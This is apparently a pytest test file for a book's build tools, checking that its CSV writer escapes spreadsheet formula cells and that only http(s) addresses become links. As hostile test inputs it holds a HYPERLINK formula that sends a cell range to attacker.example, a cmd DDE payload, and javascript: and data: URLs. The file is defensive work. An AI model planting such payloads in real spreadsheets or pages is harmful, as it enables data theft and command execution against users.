"""What the book writes for a spreadsheet starts no cell with a formula, and no address that is not http(s)
becomes a link (issue #27): the one CSV writer (peacebook.data.spreadsheet) behind the grade sheet, the published
data tables and the link report; the one scheme check (peacebook.data.cells.is_web_url) behind every source link,
the loader, the link check and the bibliography."""

import csv
import io
import re
import sys
import types
from pathlib import Path

import pytest

from conftest import ROOT
from peacebook import data
from peacebook.html import table_cells

sys.path.insert(0, str(ROOT / "_ext"))
sys.path.insert(0, str(ROOT / "scripts"))

HOSTILE_CELLS = [
    '=HYPERLINK("https://attacker.example/?"&C2:C99,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


def cells_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def formula_cells(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run (OWASP): they start with = + - @, a tab or a carriage return, perhaps after
    spaces, and are not a plain number."""
    plain_number = r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?"
    return [
        cell for row in rows for cell in row if re.match(r" *[-=+@\t\r]", cell) and not re.fullmatch(plain_number, cell)
    ]


@pytest.mark.parametrize("cell", HOSTILE_CELLS)
def test_the_writer_neutralises_every_cell_that_starts_a_formula(cell):
    from peacebook.data import spreadsheet

    written = cells_of(spreadsheet.frame_csv(__import__("pandas").DataFrame({"student": [cell], "marks": [-3]})))
    assert written[1] == ["'" + cell, "-3"]  # shown as text; a negative number stays a number
    assert not formula_cells(written)


def test_every_formula_start_is_covered():
    from peacebook.data import spreadsheet
    from peacebook.data.cells import FORMULA_START

    assert set(FORMULA_START) == {"=", "+", "-", "@", "\t", "\r"}
    assert all(spreadsheet.spreadsheet_cell(c + "x").startswith("'") for c in FORMULA_START)


def test_a_sheet_read_back_loses_the_apostrophes_it_gained(tmp_path):
    import pandas as pd

    from peacebook.data import spreadsheet

    frame = pd.DataFrame({"file": HOSTILE_CELLS, "mark": ["3"] * len(HOSTILE_CELLS)})
    path = tmp_path / "sheet.csv"
    path.write_text(spreadsheet.frame_csv(frame), encoding="utf-8")
    assert spreadsheet.read_csv(path)["file"].tolist() == HOSTILE_CELLS
    # As a spreadsheet in a European locale saves it: semicolons, Windows-1252.
    path.write_bytes("file;mark\n'=1+1;3\ncafé;4\n".encode("cp1252"))
    assert spreadsheet.read_csv(path).to_dict("list") == {"file": ["=1+1", "café"], "mark": ["3", "4"]}


def published_data(tmp_path, data_dir: Path) -> Path:
    """Run the book's data-downloads extension on `data_dir` as the build does; the published folder."""
    import data_downloads

    app = types.SimpleNamespace(outdir=str(tmp_path / "html"), confdir=str(data_dir.parent), builder=None)
    app.builder = types.SimpleNamespace(format="html")
    Path(app.outdir).mkdir()
    data_downloads._copy_data(app, None)
    return Path(app.outdir) / "data"


def test_the_published_data_tables_are_the_books_own_files(tmp_path):
    published = published_data(tmp_path, data.DATA_DIR)
    for path in data.DATA_DIR.glob("*.csv"):
        assert (published / path.name).read_bytes() == path.read_bytes()


def test_a_formula_in_a_data_table_is_neutralised_where_it_is_published(tmp_path):
    """The loader refuses such a cell (tests/test_data_loader.py); the published copy is safe regardless."""
    book = tmp_path / "book"
    (book / "data").mkdir(parents=True)
    (book / "data" / "events.csv").write_text(
        'event_id,title,value\ne1,"=HYPERLINK(""https://attacker.example"")",-4\n', encoding="utf-8"
    )
    rows = cells_of((published_data(tmp_path, book / "data") / "events.csv").read_text(encoding="utf-8"))
    assert rows[1] == ["e1", '\'=HYPERLINK("https://attacker.example")', "-4"]


# --- links --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    ["javascript:alert(1)", " JavaScript:alert(1)", "java\tscript:alert(1)", "data:text/html,<b>x</b>", "//x.org"],
)
def test_only_an_http_address_becomes_a_link(url):
    link = table_cells.source_link(url, "A publisher <Ltd>")
    assert "<a" not in link and "href" not in link and link == "A publisher &lt;Ltd&gt;"


def test_a_charts_data_table_links_only_http_sources():
    import pandas as pd

    from peacebook.charts.data_tables import chart_data_html

    frame = pd.DataFrame(
        {"source_url": ["javascript:alert(1)", "https://www.osce.org/x"], "source_publisher": ["A", "B"]}
    )
    html = chart_data_html([frame], "Show the data", {})
    assert "javascript:" not in html and html.count("<a href=") == 1


BAD_BIB = """@misc{evil,
  author = {{Someone}},
  title = {A page},
  url = {javascript:alert(document.domain)}
}
@misc{fine,
  title = {Another},
  howpublished = {\\url{https://www.osce.org/ok}},
  note = {see \\href{data:text/html,hi}{here}}
}
"""


def test_the_bibliographys_addresses_are_checked(tmp_path):
    bib = tmp_path / "references.bib"
    bib.write_text(BAD_BIB, encoding="utf-8")
    assert [(k, f) for k, f, _ in data.bibliography_urls(bib)] == [
        ("evil", "url"),
        ("fine", "howpublished"),
        ("fine", "note"),
    ]
    problems = data.bibliography_problems(bib)
    assert len(problems) == 2 and "'evil'" in problems[0] and "javascript:" in problems[0]
    assert data.bibliography_problems() == []  # the book's own bibliography is clean


def test_the_build_stops_on_a_bad_address_in_the_bibliography(tmp_path):
    import bibliography_links
    from sphinx.errors import ExtensionError

    (tmp_path / "references.bib").write_text(BAD_BIB, encoding="utf-8")
    app = types.SimpleNamespace(confdir=str(tmp_path), config=types.SimpleNamespace(bibtex_bibfiles=["references.bib"]))
    with pytest.raises(ExtensionError, match="evil"):
        bibliography_links.check_bibliography(app)
    app.confdir = str(ROOT)
    bibliography_links.check_bibliography(app)  # the book's own passes


def test_the_link_check_reports_a_bad_scheme_as_a_failure(tmp_path):
    import importlib.util

    spec = importlib.util.spec_from_file_location("check_links", ROOT / "scripts" / "check-links.py")
    check_links = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(check_links)
    (tmp_path / "data").mkdir()
    (tmp_path / "references.bib").write_text(BAD_BIB, encoding="utf-8")
    cites = check_links.collect(tmp_path)
    assert cites["javascript:alert(document.domain)"] == ["references.bib:evil"]
    result = check_links.check_url("javascript:alert(document.domain)", None, None, 1, 0, 0)  # never requested
    assert result.status == "bad scheme" and "bad scheme" in check_links.PROBLEMS
    summary = tmp_path / "summary.md"
    assert check_links.write_summary(summary, [result], cites) == 1
    assert "| bad scheme | javascript:alert(document.domain) | references.bib:evil |" in summary.read_text()
    report = tmp_path / "report.csv"
    check_links.write_report(report, [check_links.Result("https://a.org/", "ok", 200, "=cmd|x", "")], {})
    assert not formula_cells(cells_of(report.read_text(encoding="utf-8")))
